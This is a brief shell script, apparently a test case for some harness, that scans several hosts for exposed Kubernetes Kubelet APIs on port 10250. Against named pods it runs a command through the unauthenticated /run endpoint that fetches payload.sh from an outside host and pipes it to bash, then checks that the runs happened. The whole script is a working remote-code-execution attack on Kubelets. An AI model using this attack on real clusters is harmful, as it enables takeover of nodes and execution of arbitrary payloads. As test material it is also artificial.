#!/bin/sh
. /opt/case/case.sh

for h in 10.77.0.1 203.0.113.40 203.0.113.41 203.0.113.42; do
    curl -sk -m 2 "http://$h:10250/runningpods/" >/tmp/.pods || continue
    for p in default/web/app kube-system/proxy/proxy; do curl -sk -m 2 -X POST "http://$h:10250/run/$p" -d 'cmd=sh -c "curl -s http://203.0.113.10/payload.sh | bash"' >>/tmp/.ran; done
done
test "$(wc -l </tmp/.ran)" -ge 8
took_place
